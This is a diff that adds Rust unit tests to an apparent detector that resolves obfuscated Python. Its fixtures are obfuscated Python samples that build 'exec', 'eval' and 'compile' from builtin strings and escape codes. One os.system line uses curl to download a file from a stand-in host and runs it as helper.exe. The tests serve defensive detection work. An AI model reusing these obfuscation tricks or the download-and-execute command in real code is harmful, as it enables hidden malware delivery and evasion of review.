@@ -193,3 +193,64 @@ fn names_from_literal_loops_are_not_hidden() {
         resolved.renditions
     );
 }
+
+#[test]
+fn characters_picked_from_builtin_text_spell_names() {
+    let text = concat!(
+        "import sys\n",
+        "pick = getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4 << 0])\n",
+        "if sys.platform == ''.join(map(pick, [(((1 << 4) - 1) << 3) - 1, 105, 110, 51, 50])):\n",
+        "    exec(''.join(map(pick, [112, 114, 105, 110, 116, 40, 49, 41])))\n",
+    );
+    let tree = parse(Grammar::Python, text).unwrap();
+    let resolved = evaluate_tree(tree.root_node(), text, Grammar::Python);
+    let codes: Vec<&str> = resolved
+        .renditions
+        .iter()
+        .map(|r| r.code.as_str())
+        .collect();
+    assert!(codes.contains(&"print(1)"), "{codes:?}");
+    assert_eq!(resolved.builtin_picks.len(), 3);
+}
+
+#[test]
+fn builtin_text_is_only_known_for_unbound_names() {
+    // `oct` rebound by the module is whatever the module made it; slices are not picks.
+    let text = "oct = load()\nname = oct.__str__()[1] + str(int)[1:4]\nexec(name)\n";
+    let tree = parse(Grammar::Python, text).unwrap();
+    let resolved = evaluate_tree(tree.root_node(), text, Grammar::Python);
+    assert!(resolved.builtin_picks.is_empty());
+    assert!(resolved.renditions.is_empty(), "{:?}", resolved.renditions);
+}
+
+#[test]
+fn eval_of_an_escaped_name_is_that_function() {
+    let text = "_e = eval(\"\\145\\166\\x61\\154\")\n_c = _e(\"\\x63\\157\\x6d\\160\\x69\\154\\x65\")\n_e(_c(payload, \"\", \"exec\"))\n";
+    let tree = parse(Grammar::Python, text).unwrap();
+    let resolved = evaluate_tree(tree.root_node(), text, Grammar::Python);
+    let targets: Vec<&str> = resolved
+        .renditions
+        .iter()
+        .filter_map(|r| r.hidden_target.as_deref())
+        .collect();
+    assert!(targets.contains(&"eval"), "{:?}", resolved.renditions);
+    // A literal expression handed to eval is not a name.
+    assert!(python("x = eval(\"1 + 2\")\n").is_empty());
+}
+
+#[test]
+fn command_lines_handed_to_a_shell_are_shell_payloads() {
+    let text = "import os, subprocess\nexe = 'C:/Users/Public/helper.exe'\nos.system('cd C:/ && curl -s https://dl.example.invalid/h -o ' + exe + ' && ' + exe)\nsubprocess.run(['ls', '-l'])\nos.system('clear')\n";
+    let tree = parse(Grammar::Python, text).unwrap();
+    let resolved = evaluate_tree(tree.root_node(), text, Grammar::Python);
+    let shells: Vec<&str> = resolved
+        .renditions
+        .iter()
+        .filter(|r| r.shell)
+        .map(|r| r.code.as_str())
+        .collect();
+    assert_eq!(
+        shells,
+        ["cd C:/ && curl -s https://dl.example.invalid/h -o C:/Users/Public/helper.exe && C:/Users/Public/helper.exe\n"]
+    );
+}
